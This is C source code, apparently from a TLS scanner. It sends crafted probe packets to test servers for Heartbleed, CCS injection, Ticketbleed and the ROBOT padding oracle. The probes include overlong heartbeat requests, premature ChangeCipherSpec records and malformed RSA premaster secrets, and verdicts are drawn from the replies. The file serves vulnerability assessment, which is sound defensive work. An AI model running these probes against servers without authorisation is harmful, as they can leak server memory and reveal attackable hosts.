/* SPDX-License-Identifier: MIT */
/*
 * attack_tls: the handshake oracles of T-15, each going on where a raw
 * ClientHello stops (attack_int.h): Heartbleed (a heartbeat request with an
 * overlong payload_length right after the server's flight, then a
 * well-formed one: the first heartbeat response says which was answered),
 * CCS injection (two ChangeCipherSpec records before any key exchange:
 * unexpected_message = refused, bad_record_mac = the second one was
 * decrypted with keys that were never agreed), Ticketbleed (a ticket from a
 * real TLS 1.2 handshake presented with a 1-byte session id: a longer echo
 * leaks memory) and ROBOT (five ClientKeyExchanges with valid and broken
 * PKCS#1 v1.5 premaster secrets under the server's RSA key: distinguishable
 * answers, reproduced once, are a padding oracle).
 * Invariants: every read has the probe's deadline; nothing here judges.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "attack_int.h"
#include "hello.h"
#include "util.h"
#include "wtls.h"

static bool has_ext(const struct hello_reply *r, uint16_t type)
{
	for (size_t i = 0; i < r->nexts; i++)
		if (r->exts[i] == type)
			return true;
	return false;
}

static void put_rec_hdr(uint8_t *b, uint8_t type, uint16_t version, size_t len)
{
	b[0] = type;
	b[1] = (uint8_t)(version >> 8);
	b[2] = (uint8_t)version;
	b[3] = (uint8_t)(len >> 8);
	b[4] = (uint8_t)len;
}

static bool send_bytes(struct atk *a, struct conn *c, const uint8_t *b, size_t n)
{
	conn_set_timeout(c, a->timeout_ms);
	return conn_send(c, b, n) == CONN_OK;
}

/* ---- Heartbleed (CVE-2014-0160) ---------------------------------------- */

#define HB_PAYLOAD "STARK-HB"

void atk_heartbleed(struct atk *a)
{
	struct attack_result *r = &a->out->r[ATK_HEARTBLEED];
	uint16_t suites[PROBE_SUITES_PER_HELLO], v;
	size_t n;
	if (!atk_pick(a->rep, HELLO_TLS10, HELLO_TLS12, 0, 0, &v, suites, &n)) {
		atk_set(r, ATK_NOT_VULNERABLE,
		        "no TLS 1.0-1.2 accepted: heartbeats (RFC 6520) do not exist in TLS 1.3");
		return;
	}
	if (!atk_begin(a, ATK_HEARTBLEED))
		return;
	struct hello_opts h;
	hello_opts_init(&h, v);
	h.suites = suites;
	h.nsuites = n;
	h.ext |= HELLO_EXT_HEARTBEAT;
	struct probe_result *res = xmalloc(sizeof *res);
	struct conn c;
	if (!atk_hello(a, r, &h, true, res, &c))
		goto out;
	if (!has_ext(&res->reply, HELLO_EXT_TYPE_HEARTBEAT)) {
		atk_set(r, ATK_NOT_VULNERABLE,
		        "the %s ServerHello has no heartbeat extension: heartbeats are off", hello_version_name(v));
		goto out;
	}
	if (!res->reply.flight_done) {
		atk_set(r, ATK_INCONCLUSIVE, "heartbeat negotiated, but the server's flight did not end");
		goto out;
	}
	buf_consume(&c.in, res->reply.consumed);
	/* 1: payload_length 16384 with no payload at all; 2: a proper one with
	 * the 16 bytes of padding RFC 6520 4 asks for. A patched server drops
	 * the first silently (RFC 6520 4) and echoes the second. */
	uint8_t out[5 + 3 + 5 + 3 + sizeof HB_PAYLOAD - 1 + 16];
	size_t plen = sizeof HB_PAYLOAD - 1;
	put_rec_hdr(out, 24, v, 3);
	out[5] = 1, out[6] = 0x40, out[7] = 0x00;
	put_rec_hdr(out + 8, 24, v, 3 + plen + 16);
	out[13] = 1, out[14] = 0, out[15] = (uint8_t)plen;
	memcpy(out + 16, HB_PAYLOAD, plen);
	memset(out + 16 + plen, 0x5a, 16);
	if (!send_bytes(a, &c, out, sizeof out)) {
		atk_set(r, ATK_NOT_VULNERABLE, "closed when the heartbeat requests were sent: %s", c.err);
		goto out;
	}
	struct atk_record rec = {0};
	char what[96];
	for (;;) {
		enum atk_rec e = atk_next(&c, a->timeout_ms, &rec);
		atk_describe(e, &rec, what, sizeof what);
		if (e == ATK_REC_OK && (rec.type == 22 || rec.type == 20))
			continue; /* the rest of a handshake flight: not an answer yet */
		if (e == ATK_REC_OK && rec.type == 24) {
			size_t pl = rec.len >= 3 ? (size_t)rec.body[1] << 8 | rec.body[2] : 0;
			if (rec.len >= 3 && rec.body[0] == 2 && pl == plen && rec.len >= 3 + plen &&
			    memcmp(rec.body + 3, HB_PAYLOAD, plen) == 0)
				atk_set(r, ATK_NOT_VULNERABLE,
				        "the overlong request (payload_length 16384, no payload) was dropped and "
				        "the well-formed one echoed (%zu bytes)", rec.len);
			else
				atk_set(r, ATK_VULNERABLE,
				        "the overlong request (payload_length 16384, no payload) was answered "
				        "with a %zu-byte heartbeat response claiming %zu payload bytes: "
				        "server memory", rec.len, pl);
		} else if (e == ATK_REC_OK && rec.type == 21) {
			atk_set(r, ATK_NOT_VULNERABLE, "the heartbeat requests got %s", what);
		} else if (e == ATK_REC_CLOSED) {
			atk_set(r, ATK_NOT_VULNERABLE, "the connection closed on the heartbeat requests");
		} else if (e == ATK_REC_SILENT) {
			atk_set(r, ATK_NOT_VULNERABLE,
			        "no heartbeat response within %lld ms: nothing leaked (the server may "
			        "answer heartbeats only after the handshake)", (long long)a->timeout_ms);
		} else if (e == ATK_REC_STOPPED) {
			atk_set(r, ATK_INCONCLUSIVE, "interrupted");
		} else {
			atk_set(r, ATK_INCONCLUSIVE, "the heartbeat requests got %s", what);
		}
		break;
	}
out:
	conn_close(&c);
	free(res);
	atk_end(a, ATK_HEARTBLEED);
}

/* ---- CCS injection (CVE-2014-0224) ------------------------------------- */

void atk_ccs(struct atk *a)
{
	struct attack_result *r = &a->out->r[ATK_CCS];
	uint16_t suites[PROBE_SUITES_PER_HELLO], v;
	size_t n;
	if (!atk_pick(a->rep, HELLO_SSL3, HELLO_TLS12, 0, CS_TLS13, &v, suites, &n)) {
		atk_set(r, ATK_NOT_VULNERABLE, "no SSLv3-TLS 1.2 accepted: TLS 1.3 has no such state");
		return;
	}
	if (!atk_begin(a, ATK_CCS))
		return;
	struct hello_opts h;
	hello_opts_init(&h, v);
	h.suites = suites;
	h.nsuites = n;
	struct probe_result *res = xmalloc(sizeof *res);
	struct conn c;
	if (!atk_hello(a, r, &h, true, res, &c))
		goto out;
	if (!res->reply.flight_done) {
		atk_set(r, ATK_INCONCLUSIVE, "the server's flight did not end (no ServerHelloDone)");
		goto out;
	}
	buf_consume(&c.in, res->reply.consumed);
	uint8_t ccs[12];
	put_rec_hdr(ccs, 20, v, 1);
	ccs[5] = 1;
	memcpy(ccs + 6, ccs, 6);
	if (!send_bytes(a, &c, ccs, sizeof ccs)) {
		atk_set(r, ATK_NOT_VULNERABLE, "closed on the early ChangeCipherSpec: %s", c.err);
		goto out;
	}
	struct atk_record rec = {0};
	char what[96];
	enum atk_rec e = atk_next(&c, a->timeout_ms, &rec);
	atk_describe(e, &rec, what, sizeof what);
	if (e == ATK_REC_OK && rec.type == 21 && rec.len >= 2 && (rec.body[1] == 20 || rec.body[1] == 21))
		atk_set(r, ATK_VULNERABLE,
		        "two ChangeCipherSpec before any key exchange got %s: the first was accepted "
		        "and the second decrypted with keys that were never agreed", what);
	else if (e == ATK_REC_OK && rec.type == 21)
		atk_set(r, ATK_NOT_VULNERABLE, "the early ChangeCipherSpec got %s", what);
	else if (e == ATK_REC_CLOSED)
		atk_set(r, ATK_NOT_VULNERABLE, "the early ChangeCipherSpec: %s without an alert", what);
	else if (e == ATK_REC_SILENT)
		atk_set(r, ATK_INCONCLUSIVE,
		        "no answer to two early ChangeCipherSpec within %lld ms (neither refused nor "
		        "shown to be accepted)", (long long)a->timeout_ms);
	else
		atk_set(r, ATK_INCONCLUSIVE, "the early ChangeCipherSpec got %s", what);
out:
	conn_close(&c);
	free(res);
	atk_end(a, ATK_CCS);
}

/* ---- Ticketbleed (CVE-2016-9244) --------------------------------------- */

bool attack_ticketbleed_leaks(const uint8_t *sent, size_t sent_len, const uint8_t *echo,
                              size_t echo_len)
{
	return sent_len > 0 && echo_len > sent_len && memcmp(sent, echo, sent_len) == 0;
}

/* A real ticket: a TLS 1.2 handshake through wtls that asks for one. */
static ssize_t fetch_ticket(struct atk *a, uint8_t *buf, size_t cap, char *why, size_t whylen)
{
	struct wtls_config *cfg = wtls_config_new(WTLS_CLIENT);
	if (cfg == NULL) {
		snprintf(why, whylen, "no TLS client configuration");
		return -1;
	}
	ssize_t got = -1;
	if (wtls_config_set_versions(cfg, WTLS_V12, WTLS_V12) != 0 || wtls_config_want_ticket(cfg) != 0) {
		snprintf(why, whylen, "%s", wtls_config_error(cfg));
		wtls_config_free(cfg);
		return -1;
	}
	struct conn c;
	struct probe_result *res = xmalloc(sizeof *res);
	if (probe_starttls(a->p, &c, res) != 0) {
		snprintf(why, whylen, "%s", res->detail);
	} else {
		conn_set_timeout(&c, a->timeout_ms);
		if (conn_starttls(&c, cfg, WTLS_CLIENT, a->o->servername, NULL, 0) != CONN_OK)
			snprintf(why, whylen, "TLS 1.2 handshake: %s", c.err);
		else if ((got = wtls_session_ticket(c.tls, buf, cap)) <= 0)
			snprintf(why, whylen, "the TLS 1.2 handshake completed without a NewSessionTicket");
		if (c.tls && c.tls_ok)
			conn_send(&c, (const uint8_t *)"QUIT\r\n", 6);
	}
	conn_close(&c);
	free(res);
	wtls_config_free(cfg);
	return got > 0 ? got : -1;
}

void atk_ticketbleed(struct atk *a)
{
	struct attack_result *r = &a->out->r[ATK_TICKETBLEED];
	uint16_t suites[PROBE_SUITES_PER_HELLO], v;
	size_t n;
	if (!atk_pick(a->rep, HELLO_TLS12, HELLO_TLS12, 0, CS_TLS13, &v, suites, &n)) {
		atk_set(r, ATK_NOT_VULNERABLE, "no TLS 1.2: no session tickets to resume");
		return;
	}
	if (a->rep->ticket != PROBE_TRI_YES) {
		atk_set(r, ATK_NOT_VULNERABLE, "the server issues no session tickets (no session_ticket "
		        "in its TLS 1.2 ServerHello)");
		return;
	}
	if (!atk_begin(a, ATK_TICKETBLEED))
		return;
	uint8_t *ticket = xmalloc(65536);
	char why[300];
	ssize_t tlen = fetch_ticket(a, ticket, 65536, why, sizeof why);
	struct probe_result *res = xmalloc(sizeof *res);
	struct conn c;
	conn_init(&c, -1, NULL);
	if (tlen <= 0) {
		atk_set(r, ATK_INCONCLUSIVE, "no ticket to present: %s", why);
		goto out;
	}
	struct hello_opts h;
	hello_opts_init(&h, v);
	h.suites = suites;
	h.nsuites = n;
	h.ticket = ticket;
	h.ticket_len = (size_t)tlen;
	h.session_id_len = 1;
	h.keep_session_id = true;
	probe_random(h.session_id, 1);
	if (!atk_hello(a, r, &h, false, res, &c))
		goto out;
	const struct hello_reply *sh = &res->reply;
	char echo[80] = "";
	for (size_t i = 0; i < sh->session_id_len && i < 32; i++)
		snprintf(echo + 2 * i, sizeof echo - 2 * i, "%02x", sh->session_id[i]);
	if (attack_ticketbleed_leaks(h.session_id, 1, sh->session_id, sh->session_id_len))
		atk_set(r, ATK_VULNERABLE, "a %zd-byte ticket with the 1-byte session id %02x came back "
		        "as a %u-byte session id %s: %u bytes of server memory", tlen, h.session_id[0],
		        sh->session_id_len, echo, sh->session_id_len - 1u);
	else if (sh->session_id_len == 1 && sh->session_id[0] == h.session_id[0])
		/* the random byte stays in the transcript: a verdict's words are
		 * the same on every run against the same target */
		atk_set(r, ATK_NOT_VULNERABLE, "the ticket was accepted and the 1-byte session id "
		        "echoed as sent (RFC 5077 3.4)");
	else
		atk_set(r, ATK_NOT_VULNERABLE, "the %zd-byte ticket was not resumed (a new %u-byte "
		        "session id): no echo to leak through", tlen, sh->session_id_len);
out:
	conn_close(&c);
	free(res);
	free(ticket);
	atk_end(a, ATK_TICKETBLEED);
}

/* ---- ROBOT ---------------------------------------------------------------- */

enum { ROBOT_VARIANTS = 5 };
static const char *const robot_names[ROBOT_VARIANTS] = {
	"valid PKCS#1 v1.5", "wrong first bytes 41 17", "0x00 in the wrong place",
	"no 0x00 separator", "wrong version in the premaster",
};

/* Nonzero random bytes (PKCS#1 v1.5 padding string). */
static void nonzero_random(uint8_t *b, size_t n)
{
	probe_random(b, n);
	for (size_t i = 0; i < n; i++)
		while (b[i] == 0)
			probe_random(b + i, 1);
}

/* The encoded message of a variant for a k-byte modulus (k >= 64). */
static void robot_block(int variant, uint16_t version, uint8_t *m, size_t k)
{
	size_t pad = k - 3 - 48;
	m[0] = 0x00, m[1] = 0x02;
	nonzero_random(m + 2, pad);
	m[2 + pad] = 0x00;
	uint8_t *pms = m + 3 + pad;
	pms[0] = (uint8_t)(version >> 8), pms[1] = (uint8_t)version;
	nonzero_random(pms + 2, 46);
	switch (variant) {
	case 1: m[0] = 0x41, m[1] = 0x17; break;
	case 2: /* the separator moves near the end: a 1-byte "premaster" */
		m[2 + pad] = 0x11;
		m[k - 2] = 0x00;
		break;
	case 3: m[2 + pad] = 0x11; break; /* no zero byte after 00 02 at all */
	case 4: pms[0] = 0x02, pms[1] = 0x02; break;
	default: break;
	}
}

/* One ROBOT exchange: hello with RSA suites, ClientKeyExchange with the
 * variant, ChangeCipherSpec, a Finished of random bytes; what came back
 * into sig (the oracle's output). false with r set when it could not run. */
static bool robot_try(struct atk *a, struct attack_result *r, const struct hello_opts *h, int variant,
                      char *sig, size_t siglen)
{
	struct probe_result *res = xmalloc(sizeof *res);
	struct conn c;
	bool ok = false;
	if (!atk_hello(a, r, h, true, res, &c))
		goto out;
	const struct hello_reply *sh = &res->reply;
	if (!sh->flight_done || sh->ncert_der == 0) {
		atk_set(r, ATK_INCONCLUSIVE, "no certificate in the server's flight to encrypt to");
		goto out;
	}
	const uint8_t *der = c.in.data + sh->cert_der[0].off;
	size_t dlen = sh->cert_der[0].len, k = wtls_cert_rsa_modulus_bytes(der, dlen);
	if (k < 64 || k > 1024) {
		atk_set(r, ATK_INCONCLUSIVE, "the certificate of the RSA suite %04x has no usable RSA key",
		        sh->cipher);
		goto out;
	}
	uint8_t m[1024], enc[1024];
	robot_block(variant, h->version, m, k);
	if (wtls_cert_rsa_encrypt_raw(der, dlen, m, k, enc, k) != 0) {
		atk_set(r, ATK_ERROR, "RSA encryption to the server's key failed");
		goto out;
	}
	size_t hs = 4 + (h->version >= HELLO_TLS10 ? 2 : 0) + k;
	uint8_t *out = xmalloc(5 + hs + 6 + 5 + 40);
	size_t o = 0;
	put_rec_hdr(out, 22, h->version, hs);
	o = 5;
	out[o++] = 16; /* client_key_exchange */
	out[o++] = (uint8_t)((hs - 4) >> 16), out[o++] = (uint8_t)((hs - 4) >> 8), out[o++] = (uint8_t)(hs - 4);
	if (h->version >= HELLO_TLS10)
		out[o++] = (uint8_t)(k >> 8), out[o++] = (uint8_t)k;
	memcpy(out + o, enc, k);
	o += k;
	put_rec_hdr(out + o, 20, h->version, 1);
	out[o + 5] = 1;
	o += 6;
	put_rec_hdr(out + o, 22, h->version, 40); /* "Finished" under keys we cannot know */
	probe_random(out + o + 5, 40);
	o += 45;
	buf_consume(&c.in, sh->consumed);
	bool sent = send_bytes(a, &c, out, o);
	free(out);
	struct atk_record rec = {0};
	enum atk_rec e = sent ? atk_next(&c, a->timeout_ms, &rec) : ATK_REC_CLOSED;
	if (e == ATK_REC_STOPPED) {
		atk_set(r, ATK_INCONCLUSIVE, "interrupted");
		goto out;
	}
	atk_describe(e, &rec, sig, siglen);
	ok = true;
out:
	conn_close(&c);
	free(res);
	return ok;
}

void atk_robot(struct atk *a)
{
	struct attack_result *r = &a->out->r[ATK_ROBOT];
	uint16_t suites[PROBE_SUITES_PER_HELLO], v;
	size_t n;
	if (!atk_pick(a->rep, HELLO_SSL3, HELLO_TLS12, CS_RSA_KX, CS_EXPORT | CS_PSK, &v, suites, &n)) {
		atk_set(r, ATK_NOT_VULNERABLE, "no RSA key exchange suite accepted: no padding oracle to ask");
		return;
	}
	if (!atk_begin(a, ATK_ROBOT))
		return;
	struct hello_opts h;
	hello_opts_init(&h, v);
	h.suites = suites;
	h.nsuites = n;
	char sig[ROBOT_VARIANTS][96];
	for (int i = 0; i < ROBOT_VARIANTS; i++)
		if (!robot_try(a, r, &h, i, sig[i], sizeof sig[i]))
			goto out;
	bool same = true;
	for (int i = 1; i < ROBOT_VARIANTS; i++)
		same &= strcmp(sig[i], sig[0]) == 0;
	if (same) {
		atk_set(r, ATK_NOT_VULNERABLE, "%s with %d ClientKeyExchanges (%s and 4 malformed "
		        "premaster secrets): all got %s", hello_version_name(v), ROBOT_VARIANTS,
		        robot_names[0], sig[0]);
		goto out;
	}
	/* A difference must reproduce: ask every variant once more. */
	char again[96];
	struct buf b = {0};
	for (int i = 0; i < ROBOT_VARIANTS; i++) {
		if (!robot_try(a, r, &h, i, again, sizeof again))
			goto done;
		if (strcmp(again, sig[i]) != 0) {
			atk_set(r, ATK_INCONCLUSIVE, "the answers differ but do not reproduce (%s: %s, then "
			        "%s): a noisy server, no verdict", robot_names[i], sig[i], again);
			goto done;
		}
		buf_appendf(&b, "%s%s -> %s", i ? "; " : "", robot_names[i], sig[i]);
	}
	atk_set(r, ATK_VULNERABLE, "%s RSA padding oracle, reproduced: %s", hello_version_name(v),
	        buf_cstr(&b));
done:
	buf_free(&b);
out:
	atk_end(a, ATK_ROBOT);
}
